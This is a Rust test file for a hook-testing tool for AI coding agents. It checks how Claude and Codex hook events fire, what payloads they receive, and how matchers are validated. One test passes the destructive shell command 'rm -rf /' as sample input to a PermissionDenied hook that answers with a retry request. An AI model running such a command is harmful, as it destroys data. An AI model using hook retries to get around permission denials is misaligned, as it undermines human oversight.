    let ctx = project_with_claude_hooks(
        r#"{ "PermissionDenied": [ { "matcher": "Bash", "hooks": [ { "type": "command",
            "command": "cat > denied.json; echo '{\"hookSpecificOutput\":{\"hookEventName\":\"PermissionDenied\",\"retry\":true}}'" } ] } ] }"#,
    );
    let doc = json_stdout(&hooks_test(
        &ctx,
        &[
            "PermissionDenied",
            "--tool",
            "Bash",
            "--input",
            r#"{"tool_input": {"command": "rm -rf /"}, "reason": "auto mode said no"}"#,
        ],
    ));
    assert_eq!(doc["summary"], "retry allowed", "{doc}");
    assert_eq!(doc["tool"], "bash");
    let payload = json_file(&ctx, "denied.json");
    assert_eq!(payload["hook_event_name"], "PermissionDenied");
    assert_eq!(payload["reason"], "auto mode said no");
    assert_eq!(payload["tool_input"]["command"], "rm -rf /");
}

#[test]
fn test_fires_post_tool_use_of_an_mcp_tool_with_its_server_key() {
    let ctx = project_with_claude_hooks(
        r#"{ "PostToolUse": [ { "matcher": "mcp__echo__.*", "hooks": [ { "type": "command", "command": "cat > post.json" } ] } ] }"#,
    );
    std::fs::write(
        ctx.project().join(".mcp.json"),
        r#"{"mcpServers":{"echo":{"command":"/nonexistent/never-started"}}}"#,
    )
    .unwrap();
    let doc = json_stdout(&hooks_test(
        &ctx,
        &["PostToolUse", "--tool", "mcp__echo__echo"],
    ));
    assert_eq!(doc["runs"].as_array().unwrap().len(), 1, "{doc}");
    let payload = json_file(&ctx, "post.json");
    assert_eq!(payload["tool_name"], "mcp__echo__echo");
    assert_eq!(
        payload["mcp_server"],
        serde_json::json!({"name": "echo", "source": "project"})
    );
}

// ------------------- check: matchers the newer events never match (hookstest)

#[test]
fn check_warns_about_matchers_the_newer_events_never_match_with_file_and_line() {
    let ctx = project();
    std::fs::write(
        ctx.project().join("new.settings.json"),
        r#"{"hooks": {
  "PreCompact": [
    {"matcher": "auto", "hooks": [{"type": "command", "command": "true"}]},
    {"matcher": "Manual", "hooks": [{"type": "command", "command": "true"}]}
  ],
  "PostCompact": [
    {"matcher": "manual|auto", "hooks": [{"type": "command", "command": "true"}]},
    {"matcher": "compact", "hooks": [{"type": "command", "command": "true"}]}
  ],
  "SessionStart": [
    {"matcher": "startup|resume", "hooks": [{"type": "command", "command": "true"}]},
    {"matcher": "restart", "hooks": [{"type": "command", "command": "true"}]}
  ],
  "InstructionsLoaded": [
    {"matcher": "session_start", "hooks": [{"type": "command", "command": "true"}]},
    {"matcher": "CLAUDE.md", "hooks": [{"type": "command", "command": "true"}]}
  ],
  "SubagentStart": [
    {"matcher": "my-own-reviewer", "hooks": [{"type": "command", "command": "true"}]}
  ],
  "UserPromptExpansion": [
    {"matcher": "deploy", "hooks": [{"type": "command", "command": "true"}]}
  ]
}}"#,
    )
    .unwrap();
    let output = dsh(&ctx)
        .args(["hooks", "check", "new.settings.json", "--format", "json"])
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(0));
    let doc = json_stdout(&output);
    let found: Vec<(&str, &str, &str)> = doc["diagnostics"]
        .as_array()
        .unwrap()
        .iter()
        .map(|d| {
            (
                d["code"].as_str().unwrap(),
                d["at"].as_str().unwrap(),
                d["position"].as_str().unwrap_or(""),
            )
        })
        .collect();
    let never = |at: &'static str, line: &'static str| ("matcher-never-matches", at, line);
    let expected = vec![
        never("hooks.PreCompact[1].matcher", "4:"),
        never("hooks.PostCompact[1].matcher", "8:"),
        never("hooks.SessionStart[1].matcher", "12:"),
        never("hooks.InstructionsLoaded[1].matcher", "16:"),
    ];
    assert_eq!(found.len(), expected.len(), "{doc}");
    for ((code, at, location), (want_code, want_at, want_line)) in found.iter().zip(&expected) {
        assert_eq!((*code, *at), (*want_code, *want_at), "{doc}");
        assert!(
            location.starts_with(want_line),
            "{location} vs {want_line}: {doc}"
        );
    }

    // The text output names file:line.
    let text = dsh(&ctx)
        .args(["hooks", "check", "new.settings.json"])
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&text.stdout);
    assert!(stdout.contains("new.settings.json:4:"), "{stdout}");
    assert!(
        stdout.contains("PreCompact matches on the trigger (manual, auto)"),
        "{stdout}"
    );
}

#[test]
fn test_fires_the_newer_events_through_codex_hooks_too() {
    let ctx = TestContext::new();
    let codex = ctx.project().join(".codex");
    std::fs::create_dir_all(&codex).unwrap();
    std::fs::write(
        codex.join("hooks.json"),
        r#"{"hooks": {
            "SubagentStart": [{"hooks": [{"type": "command", "command": "cat > sub.json"}]}],
            "PreCompact": [{"hooks": [{"type": "command", "command": "cat > pre.json"}]}]
        }}"#,
    )
    .unwrap();
    let start = json_stdout(&hooks_test(
        &ctx,
        &["SubagentStart", "--agent-type", "Explore"],
    ));
    assert_eq!(start["runs"][0]["dialect"], "codex", "{start}");
    let payload = json_file(&ctx, "sub.json");
    assert_eq!(payload["hook_event_name"], "SubagentStart");
    assert_eq!(payload["agent_type"], "Explore");

    let pre = json_stdout(&hooks_test(&ctx, &["PreCompact", "--trigger", "auto"]));
    assert_eq!(pre["summary"], "proceed", "{pre}");
    assert_eq!(json_file(&ctx, "pre.json")["trigger"], "auto");

    // A field flag on an event without that field is refused, not ignored.
    let wrong = hooks_test(&ctx, &["PreCompact", "--agent-type", "Explore"]);
    assert_eq!(wrong.status.code(), Some(2));
    let stderr = String::from_utf8_lossy(&wrong.stderr);
    assert!(
        stderr.contains("--agent-type applies to SubagentStart and SubagentStop only"),
        "{stderr}"
    );
}
